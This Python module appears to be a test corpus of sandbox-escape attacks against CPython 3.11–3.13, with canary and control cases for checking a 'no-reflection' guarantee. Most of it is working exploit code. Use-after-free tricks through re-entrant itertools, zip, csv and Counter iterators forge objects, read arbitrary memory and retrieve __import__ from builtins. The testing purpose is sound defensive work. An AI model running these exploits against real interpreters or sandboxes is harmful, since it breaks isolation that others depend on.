"""Iterators of C code that a cell asks for the next item while they look for it.

`accumulate` adds to a total that it does not hold: `next(it)` in `__add__` frees it, and a bytearray of the cell's takes
its place. The forged object leads anywhere, from the addresses that id() tells. In CPython 3.11 to 3.13.
"""

ADVISORY = ""
GUARANTEE = "no-reflection"
_FORGE = """
from itertools import accumulate
def le(*n):
    return b"".join(x.to_bytes(8, "little") for x in n)
# Below the one, read by the text of an error; above the other, by a bytes object that it is the header of.
many = [le(1 << 40, id(bytes), (1 << 62), 0) + bytes([i]) for i in range(200)]
header, base = min(many, key=id), max(many, key=id)
ib = id(base) + 32
high = None
def peek(address):
    off = address - ib
    if high is not None and address >= ih:
        return high[address - ih]
    s = str(UnicodeDecodeError("x", base, off, off + 1, "r"))
    at = s.index("byte 0x") + 7
    return int(s[at:at + 2], 16)
def word(address):
    return int.from_bytes(bytes([peek(address + i) for i in range(8)]), "little")
def text(address):
    n = word(address + 16)
    if n > 60: return b""
    return bytes([peek(address + TEXT + i) for i in range(n)])
def forge(address_of_wanted):
    # The object at this address.
    tup = id(tuple)
    got = []
    class A:
        __slots__ = ("a", "b", "c", "d", "e", "f", "g", "h")
        n = 0
        def __add__(self, other):
            A.n += 1
            if A.n == 1:
                next(acc)
                return NotImplemented
            return 5
    fake = bytes(16) + le(1000, tup, 1, address_of_wanted) + bytes(47)
    class B:
        def __radd__(self, other):
            keep = [bytearray(fake) for i in range(40)]
            got.append(other[0])
            other = None
            got.append(keep)
            return 0
    def gen():
        yield A()
        yield B()
        yield 1
        yield 2
    acc = accumulate(gen())
    next(acc)
    next(acc)
    return got[0]
ih = id(header) + 64
high = forge(id(header) + 32)
probe = "open_probe"
for TEXT in (40, 48):
    if bytes([peek(id(probe) + TEXT + i) for i in range(4)]) == b"open": break
builtins_dict = word(id(print) + 24)
def entries(d):
    keys = word(d + 32)
    log2, logbytes, kind = peek(keys + 8), peek(keys + 9), peek(keys + 10)
    n = word(keys + 24)
    start = keys + 32 + (1 << logbytes)
    step = 16 if kind else 24
    for i in range(n):
        at = start + i * step + (0 if kind else 8)
        k = word(at)
        if k:
            yield k, word(at + 8)
found = {}
for k, v in entries(builtins_dict):
    name = text(k)
    if name in (b"open", b"__import__", b"exec"):
        found[name] = v
LOOT = forge(found[b"__import__"])
"""
_AGAIN = """
from itertools import accumulate, chain, count, cycle, groupby, islice, pairwise, zip_longest
calls = []
LOOT = []
def again(*values):
    calls.append(1)
    if len(calls) == 2:
        next(it, None)
        LOOT.append(CANARY)
    return 1
{make}
for _ in range(2):
    next(it)
"""
_MADE = {
    "accumulate": "it = accumulate(map(again, 'abcdef'))",
    "chain": "it = chain(map(again, 'abcdef'))",
    "chain_from_iterable": "it = chain.from_iterable([map(again, 'abcdef')])",
    "cycle": "it = cycle(map(again, 'abcdef'))",
    "groupby": "it = groupby(map(again, 'abcdef'), lambda x: len(calls))",
    "islice": "it = islice(map(again, 'abcdef'), 5)",
    "pairwise": "it = pairwise(map(again, 'abcdef'))",
    "zip_longest": "it = zip_longest(map(again, 'abcdef'))",
    "callable": "it = iter(again, 2)",
    "items": "class Items:\n    def __getitem__(self, at):\n        return again()\nit = iter(Items())",
    "count": "class Number:\n    __int__ = int\n    def __add__(self, other):\n        again()\n        return self\n"
    "it = count(Number())",
}
#: Classes that C iterates over by `__getitem__`, for iterators that make that iterator themselves.
_ITEMS = "class Items:\n    def __getitem__(self, at):\n        return again()\n"
_SET_LATER = "class Items:\n    pass\nItems.__getitem__ = lambda self, at: again()\n"
_DELETED = _ITEMS + "    def __iter__(self):\n        return iter(())\ndel Items.__iter__\n"
_NOT_FOUND = _ITEMS + "    @property\n    def __iter__(self):\n        raise AttributeError\n"
_NO_SLOT = "class S:\n    __slots__ = ('a',)\n" + _ITEMS.replace("Items:", "Items(S):") + "    __iter__ = S.a\n"
_BASE = "class Base:\n    def __iter__(self):\n        return iter(())\n"
_OF_A_BASE = _BASE + _ITEMS.replace("Items:", "Items(Base):") + "del Base.__iter__\n"
_MADE |= {
    "zip": _ITEMS + "it = zip(Items())",
    "map": _ITEMS + "it = map(str, Items())",
    "filter": _ITEMS + "it = filter(None, Items())",
    "enumerate": _ITEMS + "it = enumerate(Items())",
    "starmap": _ITEMS.replace("again()", "(again(),)") + "from itertools import starmap\nit = starmap(str, Items())",
    "items_set_later": _SET_LATER + "it = zip(Items())",
    "items_by_setattr": _SET_LATER.replace("Items.__getitem__ =", "setattr(Items, '__getitem__',").replace(
        "again()\n", "again())\n"
    )
    + "it = zip(Items())",
    "iter_deleted": _DELETED + "it = zip(Items())",
    "iter_deleted_from_a_base": _OF_A_BASE + "it = zip(Items())",
    "iter_not_found": _NOT_FOUND + "it = zip(Items())",
    "iter_in_an_empty_slot": _NO_SLOT + "it = zip(Items())",
    "iter_of_a_named_tuple": _NOT_FOUND.replace("Items:", "Items(NamedTuple):\n    number: int").replace(
        "class", "from typing import NamedTuple\nclass", 1
    )
    + "it = zip(Items(1))",
    # chain and starmap of collections' own
    "counter_elements": "from collections import Counter\nclass C(Counter):\n    def items(self):\n"
    "        return zip(map(again, 'abcdef'), (1,) * 6)\nit = C().elements()",
}
_OVER_ITEMS = """
def le(*n):
    return b"".join(x.to_bytes(8, "little") for x in n)
def address(x):
    h = object.__hash__(x) & (1 << 64) - 1
    return (h << 4 | h >> 60) & (1 << 64) - 1
kept = []
def forge(wanted):
    # The object at this address.
    class Seq:
        __slots__ = ("a", "b", "c", "d", "e", "f", "g", "h")
        n = 0
        def __getitem__(self, at):
            Seq.n += 1
            if Seq.n == 1:
                next(it, None)
            raise IndexError
    s = Seq()
    it = zip(s)
    next(it, None)
    keep = [bytearray(bytes(16) + le(1000, address(tuple), 1, wanted) + bytes(47)) for i in range(40)]
    kept.append((s, keep, it))
    return s[0]
many = [le(1 << 40, address(bytes), 1 << 62, 0) + i.to_bytes(2, "little") for i in range(20000)]
header = min(many, key=address)
base = address(header) + 64
memory = forge(base - 32)
at = address(len) + 24 - base
LOOT = forge(int.from_bytes(memory[at:at + 8], "little"))
"""
_OF_COUNTER = """
from collections import Counter
held = []
LOOT = None
shown = repr(dict.fromkeys)  # <built-in method fromkeys of type object at 0x...>, the address of dict
called = int(shown[shown.rindex("0x"):].rstrip(">"), 16)
class Items:
    depth = 0
    def __iter__(self):
        return self
    def __next__(self):
        Items.depth += 1
        if Items.depth > 1:
            raise StopIteration
        try:
            next(it)  # it ends: chain lets go of the starmap, which is asking
        except StopIteration:
            pass
        for _ in range(6):  # its block: the head, the references, the type, the function, the iterator
            held.append(bytearray(bytes(16) + (1000).to_bytes(8, "little") + bytes(8) + called.to_bytes(8, "little") + bytes(7)))
        return ([("forged", "call")],)
class C(Counter):
    def items(self):
        return Items()
it = C().elements()
if next(it) == "forged":
    LOOT = CANARY
"""
#: What the outer call goes on with is not there any more, which ends the interpreter: here it is not let go on.
_OF_CSV = """
import csv
LOOT = None
class Lines:
    def __iter__(self):
        return self
    depth = 0
    def __next__(self):
        global LOOT
        Lines.depth += 1
        if Lines.depth > 1:
            return "a,b"
        if next(rows) == ["a", "b"]:
            LOOT = CANARY
        raise KeyError
rows = csv.reader(Lines())
try:
    next(rows)
except KeyError:
    pass
"""
ATTACKS = {"use_after_free": _FORGE, "rows_of_csv": _OF_CSV, "use_after_free_over_items": _OVER_ITEMS, "use_after_free_of_a_counter": _OF_COUNTER}
ATTACKS |= {name: _AGAIN.format(make=make) for name, make in _MADE.items()}
CONTROLS = {"use_after_free": "def print():\n    pass\n" + _FORGE}
